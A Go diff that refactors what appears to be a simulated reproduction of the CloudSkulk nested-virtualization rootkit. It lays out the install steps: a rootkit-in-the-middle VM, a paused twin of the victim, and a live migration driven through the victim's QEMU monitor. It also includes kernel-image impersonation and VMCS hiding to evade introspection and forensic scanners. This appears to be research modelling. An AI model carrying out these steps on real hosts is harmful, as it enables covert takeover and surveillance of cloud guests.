@@ -19,16 +19,20 @@ var ErrTargetVanished = errors.New("cloudskulk: target vm disappeared during ins
 // of RAM used for fingerprinting and impersonation.
 const KernelPages = 256
 
-// InstallConfig parameterizes the attack.
+// InstallConfig parameterizes the attack. The zero value is the paper's
+// install: recon picks the target, the RITM is named GuestX, and the
+// RITM impersonates the victim.
 type InstallConfig struct {
 	// TargetName pins the victim VM; empty means "first QEMU process
 	// recon finds".
 	TargetName string
-	// RITMName names the rootkit-in-the-middle VM (paper: GuestX).
+	// RITMName names the rootkit-in-the-middle VM; empty means the
+	// paper's GuestX.
 	RITMName string
-	// Impersonate copies the victim's kernel-image region into the RITM
-	// so VMI fingerprinting of "the guest" still matches.
-	Impersonate bool
+	// Naive skips impersonation. By default the RITM copies the victim's
+	// kernel-image region into its own RAM, so VMI fingerprinting of "the
+	// guest" still matches; a naive RITM keeps its own and is caught.
+	Naive bool
 	// HideVMCS runs the nested hypervisor with a software MMU so no
 	// VMCS signature lands in RITM memory — the evasion against
 	// memory-forensic scanners (at a performance price not modelled on
@@ -36,26 +40,25 @@ type InstallConfig struct {
 	HideVMCS bool
 }
 
+// ritmName is the RITM's name: cfg.RITMName, else the paper's GuestX.
+func (cfg InstallConfig) ritmName() string {
+	if cfg.RITMName == "" {
+		return "guestX"
+	}
+	return cfg.RITMName
+}
+
 // The paper's fixed install parameters.
 const (
-	// hostPort is the migration port the source connects to on the host
-	// (paper: HOST PORT AAAA).
-	hostPort = 4444
-	// ritmPort is the port inside the RITM the nested VM listens on
-	// (paper: ROOTKIT PORT BBBB).
-	ritmPort = 4444
+	// migrationPort carries the stolen guest: the host port the source
+	// migrates to (paper: HOST PORT AAAA), which the RITM forwards to the
+	// same port inside itself, where the nested twin listens (paper:
+	// ROOTKIT PORT BBBB).
+	migrationPort = 4444
 	// ritmMemoryMultiple sizes the RITM relative to the target (it must
 	// hold the nested VM plus its own OS).
 	ritmMemoryMultiple = 2
 )
-
-// DefaultInstallConfig returns the paper's setup.
-func DefaultInstallConfig() InstallConfig {
-	return InstallConfig{
-		RITMName:    "guestX",
-		Impersonate: true,
-	}
-}
 
 // StepTiming records one install step's virtual-time cost.
 type StepTiming struct {
@@ -96,9 +99,7 @@ type Installer struct {
 // The threat model's step 0 — having root on the host — is embodied by
 // holding a *kvm.Host at all.
 func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
-	if cfg.RITMName == "" {
-		cfg.RITMName = "guestX"
-	}
+	cfg.RITMName = cfg.ritmName()
 
 	eng := in.Host.Engine()
 	hv := in.Host.Hypervisor()
@@ -134,52 +135,23 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	report.OriginalPID = targetVM.PID()
 	mark = step("recon", mark)
 
-	// Step 2: launch GuestX — the RITM — sized to host the victim, with
-	// the migration forward HOST:AAAA -> RITM:BBBB.
-	ritmCfg := qemu.DefaultConfig(cfg.RITMName)
-	ritmCfg.Machine = targetCfg.Machine
-	ritmCfg.MemoryMB = targetCfg.MemoryMB * ritmMemoryMultiple
-	ritmCfg.CPUs = targetCfg.CPUs
-	ritmCfg.EnableKVM = true
-	ritmCfg.NetDevs[0].HostFwds = []qemu.FwdRule{{HostPort: hostPort, GuestPort: ritmPort}}
-	ritm, err := hv.CreateVM(ritmCfg)
+	// Steps 2-4: launch GuestX, launch the victim's incoming twin inside
+	// it, and migrate the victim into the twin.
+	ritm, inner, err := LaunchRITM(hv, cfg, targetCfg)
 	if err != nil {
-		return nil, fmt.Errorf("cloudskulk: create ritm: %w", err)
+		return nil, err
 	}
-	if err := hv.Launch(cfg.RITMName); err != nil {
-		return nil, fmt.Errorf("cloudskulk: launch ritm: %w", err)
-	}
-	inner, err := hv.EnableNesting(cfg.RITMName)
-	if err != nil {
-		return nil, fmt.Errorf("cloudskulk: nest: %w", err)
-	}
-	inner.SoftwareMMU = cfg.HideVMCS
 	mark = step("launch ritm", mark)
 
-	// Step 3: create the nested destination VM inside GuestX — an exact
-	// configuration twin of the victim, paused in incoming state. It
-	// even takes the victim's name: the inner hypervisor is attacker
-	// territory, nothing collides.
-	nestedCfg := targetCfg.Clone()
-	nestedCfg.Incoming = fmt.Sprintf("tcp:0.0.0.0:%d", ritmPort)
-	nested, err := inner.CreateVM(nestedCfg)
+	nested, err := LaunchIncoming(inner, targetCfg)
 	if err != nil {
-		return nil, fmt.Errorf("cloudskulk: create nested: %w", err)
-	}
-	if err := inner.Launch(nestedCfg.Name); err != nil {
-		return nil, fmt.Errorf("cloudskulk: launch nested: %w", err)
+		return nil, err
 	}
 	mark = step("launch nested destination", mark)
 
-	// Step 4: drive the victim's own monitor to live-migrate it into the
-	// nested VM.
-	migCmd := fmt.Sprintf("migrate -d tcp:127.0.0.1:%d", hostPort)
-	if _, err := targetVM.Monitor().Execute(migCmd); err != nil {
-		return nil, fmt.Errorf("cloudskulk: migrate: %w", err)
-	}
-	res, ok := in.Migration.LastResult()
-	if !ok {
-		return nil, errors.New("cloudskulk: migration produced no result")
+	res, err := Migrate(targetVM, in.Migration)
+	if err != nil {
+		return nil, err
 	}
 	report.Migration = res
 	mark = step("live migration", mark)
@@ -214,7 +186,7 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 		Victim:  nested,
 		Report:  report,
 	}
-	if cfg.Impersonate {
+	if !cfg.Naive {
 		if err := rk.MirrorKernel(); err != nil {
 			return nil, fmt.Errorf("cloudskulk: impersonate: %w", err)
 		}
@@ -222,6 +194,65 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	step("cleanup & takeover", mark)
 	report.TotalTime = eng.Now() - start
 	return rk, nil
+}
+
+// LaunchRITM is the install's step 2: it launches GuestX, the RITM
+// named by cfg, on hv, sized to host target beside its own OS and
+// forwarding the host's migration port into itself, and enables nesting
+// inside it (with a software MMU when cfg.HideVMCS).
+func LaunchRITM(hv *kvm.Hypervisor, cfg InstallConfig, target qemu.Config) (*qemu.VM, *kvm.Hypervisor, error) {
+	name := cfg.ritmName()
+	ritmCfg := qemu.DefaultConfig(name)
+	ritmCfg.Machine = target.Machine
+	ritmCfg.MemoryMB = target.MemoryMB * ritmMemoryMultiple
+	ritmCfg.CPUs = target.CPUs
+	ritmCfg.EnableKVM = true
+	ritmCfg.NetDevs[0].HostFwds = []qemu.FwdRule{{HostPort: migrationPort, GuestPort: migrationPort}}
+	ritm, err := hv.CreateVM(ritmCfg)
+	if err != nil {
+		return nil, nil, fmt.Errorf("cloudskulk: create ritm: %w", err)
+	}
+	if err := hv.Launch(name); err != nil {
+		return nil, nil, fmt.Errorf("cloudskulk: launch ritm: %w", err)
+	}
+	inner, err := hv.EnableNesting(name)
+	if err != nil {
+		return nil, nil, fmt.Errorf("cloudskulk: nest: %w", err)
+	}
+	inner.SoftwareMMU = cfg.HideVMCS
+	return ritm, inner, nil
+}
+
+// LaunchIncoming is the install's step 3: it creates an exact
+// configuration twin of target on hv, the RITM's nested hypervisor, and
+// launches it paused, listening for the migration stream. The twin even
+// takes the target's name: the nested hypervisor is attacker territory,
+// so nothing collides. On an L0 hypervisor the twin is a plain same-host
+// migration destination, listening on the host's migration port.
+func LaunchIncoming(hv *kvm.Hypervisor, target qemu.Config) (*qemu.VM, error) {
+	twin := target.Clone()
+	twin.Incoming = fmt.Sprintf("tcp:0.0.0.0:%d", migrationPort)
+	vm, err := hv.CreateVM(twin)
+	if err != nil {
+		return nil, fmt.Errorf("cloudskulk: create incoming twin: %w", err)
+	}
+	if err := hv.Launch(twin.Name); err != nil {
+		return nil, fmt.Errorf("cloudskulk: launch incoming twin: %w", err)
+	}
+	return vm, nil
+}
+
+// Migrate is the install's step 4: it drives source's own monitor to
+// live-migrate it to the host's migration port, and returns me's result.
+func Migrate(source *qemu.VM, me *migrate.Engine) (migrate.Result, error) {
+	if _, err := source.Monitor().Execute(fmt.Sprintf("migrate -d tcp:127.0.0.1:%d", migrationPort)); err != nil {
+		return migrate.Result{}, fmt.Errorf("cloudskulk: migrate: %w", err)
+	}
+	res, ok := me.LastResult()
+	if !ok {
+		return migrate.Result{}, errors.New("cloudskulk: migration produced no result")
+	}
+	return res, nil
 }
 
 func (in Installer) findTarget(cfg InstallConfig) (qemu.Config, ReconMethod, error) {
